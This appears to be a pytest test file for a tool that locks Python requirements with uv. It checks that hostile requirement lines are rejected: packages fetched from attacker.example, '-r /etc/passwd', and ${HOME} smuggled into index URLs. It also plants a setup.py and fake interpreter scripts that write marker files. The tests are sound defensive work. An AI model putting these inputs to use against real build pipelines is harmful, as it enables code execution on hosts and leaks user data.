"""Locking of requirements. uv uses a local folder of wheels, so no network is needed."""

import io
import os
import sys
import tarfile
import zipfile

import pytest

from aenv.errors import ConfigError, UsageError
from aenv.project.lock import find_uv, lock, lock_if_possible
from aenv.schema.requirements import is_current


@pytest.fixture
def wheels(tmp_path, monkeypatch):
    """Provide two versions of a package, its dependency, and no other packages."""
    folder = tmp_path / "wheels"
    folder.mkdir()
    for name, version, needs in (("needed", "3.1", ""), ("wanted", "1.0", "needed"), ("wanted", "1.1", "needed")):
        info = f"{name}-{version}.dist-info"
        about = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + (
            f"Requires-Dist: {needs}\n" if needs else ""
        )
        with zipfile.ZipFile(folder / f"{name}-{version}-py3-none-any.whl", "w") as wheel:
            wheel.writestr(f"{info}/METADATA", about)
            wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            wheel.writestr(f"{info}/RECORD", "")
    monkeypatch.setenv("UV_FIND_LINKS", str(folder))
    monkeypatch.setenv("UV_NO_INDEX", "1")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv"))
    monkeypatch.setenv("UV_NO_CONFIG", "1")
    return folder


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    root.mkdir()
    return root


def locked(root):
    lines = (root / "requirements.lock").read_text().splitlines()
    return [line.rstrip("\\ ") for line in lines if line and not line.startswith((" ", "#"))]


def test_all_dependencies_are_locked_with_digests(project, wheels):
    (project / "requirements.txt").write_text("aenvironment\nwanted<1.1  # a comment\n")
    assert lock(project)
    assert locked(project) == ["needed==3.1", "wanted==1.0"]
    text = (project / "requirements.lock").read_text()
    assert text.count("--hash=sha256:") == 2
    assert str(wheels) not in text


def test_a_current_lock_is_kept_and_needs_no_network(project, wheels, monkeypatch):
    (project / "requirements.txt").write_text("wanted==1.0\n")
    lock(project)
    before = (project / "requirements.lock").read_bytes()
    monkeypatch.setenv("PATH", "/nowhere")
    monkeypatch.setenv("UV_FIND_LINKS", "/nowhere")
    assert not lock(project)
    assert (project / "requirements.lock").read_bytes() == before


def test_changed_requirements_keep_the_versions_that_still_fit(project, wheels):
    (project / "requirements.txt").write_text("wanted<1.1\n")
    lock(project)
    (project / "requirements.txt").write_text("wanted\n")
    assert lock(project)
    assert "wanted==1.0" in locked(project)
    assert lock(project, upgrade=True)
    assert "wanted==1.1" in locked(project)
    assert is_current((project / "requirements.lock").read_text(), (project / "requirements.txt").read_bytes())


@pytest.mark.parametrize(
    "text", ["", "aenvironment\n", "# nothing\n\naenvironment>=0.1 ; python_version > '3'\n", None]
)
def test_empty_requirements_need_no_uv_and_leave_no_lock(project, text, monkeypatch):
    monkeypatch.setattr("aenv.project.lock.find_uv", lambda: pytest.fail("uv was asked for"))
    if text is not None:
        (project / "requirements.txt").write_text(text)
    (project / "requirements.lock").write_text("old")
    assert lock(project)
    assert not (project / "requirements.lock").exists()
    assert not lock(project)


def test_an_unsatisfiable_requirement_is_reported_and_changes_nothing(project, wheels):
    (project / "requirements.txt").write_text("wanted>=9\n")
    with pytest.raises(ConfigError, match="wanted>=9"):
        lock(project)
    assert os.listdir(project) == ["requirements.txt"]


def test_a_missing_uv_is_reported_with_how_to_install_it(monkeypatch):
    monkeypatch.setattr("aenv.project.lock.uv_program", lambda: None)
    with pytest.raises(UsageError, match="uv") as caught:
        find_uv()
    assert caught.value.details["hint"] == "Install it: pip install uv"


def test_without_uv_a_project_is_left_unlocked_with_a_warning(project, wheels, monkeypatch):
    (project / "requirements.txt").write_text("wanted==1.0\n")
    said = []
    monkeypatch.setattr("aenv.project.lock.uv_program", lambda: None)
    lock_if_possible(project, say=said.append)
    assert len(said) == 1
    assert "not locked, since uv is not installed" in said[0]
    assert os.listdir(project) == ["requirements.txt"]


def test_a_lock_that_is_current_needs_no_uv(project, wheels, monkeypatch):
    (project / "requirements.txt").write_text("wanted==1.0\n")
    said = []
    lock_if_possible(project, say=said.append)
    assert said == ["locked the requirements"]
    monkeypatch.setattr("aenv.project.lock.uv_program", lambda: None)
    lock_if_possible(project, say=said.append)
    assert said == ["locked the requirements"]


SETUP = """
from pathlib import Path
from setuptools import setup
Path({mark!r}).write_text("ran")
setup(name={name!r}, version="1.0")
"""


@pytest.fixture
def mark(tmp_path):
    """Return the file that untrusted code creates if it runs on the host."""
    return tmp_path / "ran"


@pytest.fixture
def package(project, mark):
    """Create a package in the project whose setup.py creates the mark."""
    folder = project / "pkg"
    folder.mkdir()
    (folder / "setup.py").write_text(SETUP.format(mark=str(mark), name="pkg"))
    return folder


@pytest.mark.attack("build")
@pytest.mark.parametrize(
    "line",
    [
        "./pkg",
        "pkg/",
        "-e ./pkg",
        "-e pkg",
        "--editable=./pkg",
        "--editable ./pkg",
        "pkg @ ./pkg",
        "pkg@./pkg",
        "pkg @ file://{pkg}",
        "pkg@file://{pkg}",
        "{pkg}",
        "file://{pkg}",
        "~/pkg",
        "./pkg[extra]",
        "./pk\\\ng",
        "wanted\n./pkg  # harmless",
        "git+file://{pkg}",
        "git+https://attacker.example/pkg.git",
        "pkg @ git+ssh://attacker.example/pkg.git",
        "https://attacker.example/pkg-1.0.tar.gz",
        "pkg-1.0.tar.gz",
        "pkg-1.0-py3-none-any.whl",
        "--no-binary :all:",
        "--no-binary=wanted",
        "--config-settings=x=y",
        "wanted --config-settings x=y",
        "--no-build-isolation",
        "-r more.txt",
        "-rmore.txt",
        "--requirement=more.txt",
        "-c more.txt",
        "-r deeper/more.txt",
        "-r ../outside.txt",
        "-r /etc/passwd",
        "-r missing.txt",
    ],
)
def test_a_requirement_that_would_run_code_on_the_host_is_rejected(project, wheels, package, mark, line):
    (project / "more.txt").write_text("wanted\n./pkg\n")
    (project / "deeper").mkdir()
    (project / "deeper" / "more.txt").write_text("-r ../more.txt\n")
    (project.parent / "outside.txt").write_text("wanted\n")
    (project / "requirements.txt").write_text(line.format(pkg=package) + "\n")
    with pytest.raises(ConfigError):
        lock(project)
    assert not mark.exists()
    assert not (project / "requirements.lock").exists()


@pytest.mark.attack("build")
@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://127.0.0.1:9/${HOME}/simple\nwanted",
        "--extra-index-url=http://${HOME}@127.0.0.1:9/\nwanted",
        "-f http://127.0.0.1:9/${HOME}\nwanted",
        "-r ${HOME}/names.txt",
        "-c ${HOME}/names.txt\nwanted",
        "-r more.txt",
    ],
)
def test_no_variable_of_the_user_is_put_into_a_requirement(project, wheels, line, monkeypatch):
    home = project.parent / "home"
    home.mkdir()
    (home / "names.txt").write_text("needed\n")
    monkeypatch.setenv("HOME", str(home))
    (project / "${HOME}").mkdir()
    (project / "${HOME}" / "names.txt").write_text("wanted\n")
    (project / "more.txt").write_text("-f http://127.0.0.1:9/${HOME}\nwanted\n")
    (project / "requirements.txt").write_text(f"{line}\n")
    with pytest.raises(ConfigError, match="variables are not expanded"):
        lock(project)


@pytest.mark.attack("build")
@pytest.mark.parametrize("option", ["-r", "-c"])
def test_uv_reads_no_line_that_a_comment_hides_from_the_check(project, wheels, option):
    """For uv a comment ends with its line, even after a backslash."""
    url = (wheels / "needed-3.1-py3-none-any.whl").as_uri()
    (project / "more.txt").write_text(f"# hidden \\\nneeded @ {url}\n")
    (project / "requirements.txt").write_text(f"{option} more.txt\nwanted\n")
    assert lock(project)
    assert locked(project) == ["needed==3.1", "wanted==1.1"]


@pytest.mark.attack("build")
def test_an_sdist_is_not_built_to_read_its_requirements(project, wheels, mark):
    with tarfile.open(wheels / "source_only-1.0.tar.gz", "w:gz") as archive:
        for name, text in (
            ("setup.py", SETUP.format(mark=str(mark), name="source-only")),
            ("PKG-INFO", "Metadata-Version: 1.0\nName: source-only\nVersion: 1.0\n"),
        ):
            info = tarfile.TarInfo(f"source_only-1.0/{name}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    (project / "requirements.txt").write_text("source-only\n")
    with pytest.raises(ConfigError, match="source-only"):
        lock(project)
    assert not mark.exists()


@pytest.mark.attack("build")
def test_an_interpreter_of_the_project_is_not_run(project, wheels, mark):
    binaries = project / ".venv" / "bin"
    binaries.mkdir(parents=True)
    (project / ".venv" / "pyvenv.cfg").write_text(f"home = {os.path.dirname(sys.executable)}\n")
    for name in ("python", "python3", "python3.11"):
        (binaries / name).write_text(f'#!/bin/sh\ntouch {mark}\nexec {sys.executable} "$@"\n')
        (binaries / name).chmod(0o755)
    (project / ".python-version").write_text(str(binaries / "python"))
    (project / "requirements.txt").write_text("wanted\n")
    lock(project)
    assert not mark.exists()


@pytest.mark.attack("build")
@pytest.mark.parametrize("name", ["uv.toml", "pyproject.toml", "../uv.toml"])
def test_settings_of_uv_in_the_project_are_ignored(project, wheels, name, monkeypatch):
    monkeypatch.delenv("UV_NO_CONFIG")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(project.parent / "config"))
    text = '[pip]\nprerelease = "allow"\nupgrade = "no"\nno-such-setting = 1\n'  # uv would reject it
    (project / name).write_text(text.replace("[pip]", "[tool.uv.pip]") if name == "pyproject.toml" else text)
    (project / "requirements.txt").write_text("wanted\n")
    assert lock(project)


def test_settings_of_uv_of_the_user_apply(project, wheels, monkeypatch):
    monkeypatch.delenv("UV_NO_CONFIG")
    monkeypatch.delenv("UV_FIND_LINKS")
    own = project.parent / "config" / "uv"
    own.mkdir(parents=True)
    (own / "uv.toml").write_text(f'[pip]\nfind-links = ["{wheels}"]\n')
    monkeypatch.setenv("XDG_CONFIG_HOME", str(own.parent))
    (project / "requirements.txt").write_text("wanted\n")
    assert lock(project)


def test_harmless_options_and_included_files_are_accepted(project, wheels):
    (project / "more.txt").write_text("needed >= 3 ; python_version > '3.8'\n")
    (project / "limits.txt").write_text("wanted<1.1\n")
    text = f"--find-links {wheels}\n-r more.txt\n-c limits.txt\nwanted [extra] >=1,\\\n  <2\n"
    (project / "requirements.txt").write_text(text)
    assert lock(project)
    assert locked(project) == ["needed==3.1", "wanted==1.0"]
